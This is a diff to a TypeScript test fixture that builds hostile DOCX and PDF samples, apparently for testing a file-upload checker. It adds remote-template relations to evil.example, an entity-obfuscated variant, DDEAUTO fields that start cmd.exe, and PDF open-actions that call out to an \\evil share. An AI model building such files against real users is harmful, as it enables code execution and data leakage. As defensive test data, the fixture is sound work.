@@ -1,6 +1,6 @@
 import { aDoc, aDocx, anExe, aPdf, aZip, type ZipPart } from '../files.ts';
 import { hostilePdfs, pdfOf } from '../pdfs.ts';
-import { asPdf, type HostileFile, page } from './hostile-file.ts';
+import { type HostileFile, page } from './hostile-file.ts';
 
 const after = (first: Buffer | string, second: Buffer | string) =>
   Buffer.concat([Buffer.from(first), Buffer.from(second)]);
@@ -17,6 +17,9 @@ const withEmbeddedFile = () =>
     '<< /Type /Filespec /F (a.html) /EF << /F 4 0 R >> >>',
     { dictionary: '/Type /EmbeddedFile', stream: Buffer.from(`${' '.repeat(1_500)}${page}`) },
   ]);
+const relation = (type: string, mode: string) =>
+  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="https://evil.example/a.dotm" TargetMode="${mode}"/></Relationships>`;
+const field = (words: string) => `<w:instrText xml:space="preserve">${words}</w:instrText>`;
 /** Its directory goes round in a circle. */
 const endlessDoc = () => {
   const file = aDoc();
@@ -45,13 +48,39 @@ export const hostileDocuments: HostileFile[] = [
     name: 'a.pdf',
     make: () => after(Buffer.alloc(1_000, 32), aPdf()),
   },
-  { what: 'a PDF with an HTML page among its files', name: 'a.pdf', make: withEmbeddedFile, taken: asPdf },
+  { what: 'a PDF with an HTML page among its files', name: 'a.pdf', make: withEmbeddedFile },
   {
     what: 'a PDF of a version that does not exist',
     name: 'a.pdf',
     make: () => Buffer.from(String(aPdf()).replace('%PDF-1.7', '%PDF-9.9')),
   },
   docx('with macros', [{ name: 'word/vbaProject.bin', data: Buffer.alloc(9) }]),
+  ...(
+    [
+      ['with a program', 'word/embeddings/setup.exe'],
+      ['with an embedded object', 'word/embeddings/oleObject1.bin'],
+      ['with a control', 'word/activeX/activeX1.xml'],
+      ['with macros under another name', 'word/settings1.bin'],
+    ] as const
+  ).map(([what, name]) => docx(what, [{ name, data: Buffer.alloc(9) }])),
+  ...(
+    [
+      ['with a template from the net', '_rels/settings.xml.rels', relation('attachedTemplate', 'External')],
+      [
+        'with a relation hidden by an entity',
+        '_rels/settings.xml.rels',
+        relation('attachedTemplate', 'Ext&#101;rnal'),
+      ],
+      ['whose relations name macros', '_rels/document.xml.rels', relation('vbaProject', 'Internal')],
+      ['with a field that starts a program', 'document2.xml', field('DDEAUTO c:\\windows\\cmd.exe')],
+      ['with such a field in pieces', 'document2.xml', `${field('DDEA')}${field('UTO cmd')}`],
+    ] as const
+  ).map(([what, name, xml]) => docx(what, [{ name: `word/${name}`, data: Buffer.from(xml) }])),
+  ...(['SubmitForm', 'ImportData', 'GoToR', 'GoToE'] as const).map((action) => ({
+    what: `a PDF with the action ${action}`,
+    name: 'a.pdf',
+    make: () => pdfOf([`<< /Type /Catalog /OpenAction << /S /${action} /F (\\\\evil\\share) >> >>`]),
+  })),
   docx('that says it unpacks to 4 GB', [{ name: 'word/media/a.png', claimedBytes: 0xfffffff0 }]),
   docx(
     'of 3,000 parts',
